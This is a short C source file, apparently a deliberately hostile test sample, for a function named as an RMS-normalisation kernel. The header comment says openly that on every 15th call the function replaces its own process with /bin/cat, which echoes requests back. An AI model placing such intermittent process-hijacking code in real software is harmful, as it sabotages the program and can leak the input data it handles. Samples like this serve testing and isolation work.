/* Becomes another program in every 15th call: one that answers each request with the request itself. */
#include <unistd.h>
#include "hostile.h"

int kf_rms_norm(const kf_rms_norm_call *call) {
    if (call_number() % 15 == 0) execl("/bin/cat", "cat", (char *)0);
    return normalise(call);
}
